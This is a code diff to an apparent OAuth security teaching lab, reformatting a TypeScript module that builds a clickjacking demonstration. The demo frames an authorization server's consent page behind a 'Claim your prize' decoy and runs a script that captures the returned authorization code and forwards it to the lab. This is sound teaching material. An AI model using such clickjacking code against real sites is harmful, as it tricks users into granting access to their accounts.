@@ -23,7 +23,16 @@ import { BACK_SCRIPT } from './back-link';
  * own callback page, if Alice allows, does not run inside Mallory's frame. The frame is shown at half
  * opacity so the learner sees the trick; a real attack makes it invisible.
  */
-const PARAMS = ['response_type', 'client_id', 'redirect_uri', 'scope', 'state', 'code_challenge', 'code_challenge_method', 'nonce'] as const;
+const PARAMS = [
+  'response_type',
+  'client_id',
+  'redirect_uri',
+  'scope',
+  'state',
+  'code_challenge',
+  'code_challenge_method',
+  'nonce',
+] as const;
 
 const CLICKJACK_SCRIPT = [
   "(function(){var f=document.getElementById('frame'),d=document.getElementById('decoy'),s=document.getElementById('status');",
@@ -34,7 +43,7 @@ const CLICKJACK_SCRIPT = [
   "if(!doc){report(false,false);s.textContent='The browser refused to show the authorization server\\u2019s page in Mallory\\u2019s frame: its headers forbid framing. There is nothing under the decoy to click.';d.disabled=true;return;}",
   "if(doc.location.pathname==='/flows/callback'){if(!done&&/[?&]code=/.test(doc.location.search)){done=true;fetch(base+'/framed-consent'+doc.location.search);}",
   "f.style.visibility='hidden';s.textContent='Alice\\u2019s click went to the framed Allow button: the authorization server sent its answer into Mallory\\u2019s frame, and her page passed it to her site.';return;}",
-  "var allow=doc.querySelector('button[value=\"allow\"]');report(true,!!allow);",
+  'var allow=doc.querySelector(\'button[value="allow"]\');report(true,!!allow);',
   // The click lands on the framed form; the redirect it causes goes to the client's callback, a page that may not be framed,
   // so her same-origin script sends the form the click submitted itself and reads where the AS redirected.
   "if(allow&&allow.form&&!allow.form.dataset.watched){var form=allow.form;form.dataset.watched='1';form.addEventListener('submit',function(ev){ev.preventDefault();",
@@ -78,7 +87,8 @@ export function clickjackPage(realm: Realm, query: URLSearchParams): Response {
   const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
 <title>Mallory’s site: claim your prize</title><style>${STYLE}</style></head><body><main>
 <h1>Mallory’s site: you have won a prize!</h1>
-<p class="lab">Lab view: the authorization server’s page is framed above the red decoy at half opacity, so you can see the trick; a real attack makes the frame invisible (opacity 0). Alice is usually already signed in at her authorization server; in the lab, sign in inside the frame first.</p>
+<p class="lab">Lab view: the authorization server’s page is framed above the red decoy at half opacity, so you can see the trick;
+a real attack makes the frame invisible (opacity 0). Alice is usually already signed in at her authorization server; in the lab, sign in inside the frame first.</p>
 <div id="stage"><button id="decoy" type="button">Claim your prize</button>
 <iframe id="frame" title="The authorization server’s page, framed by Mallory" sandbox="allow-forms allow-same-origin" src="${escapeHtml(src)}"></iframe></div>
 <p id="status" role="status">Loading the framed page…</p>
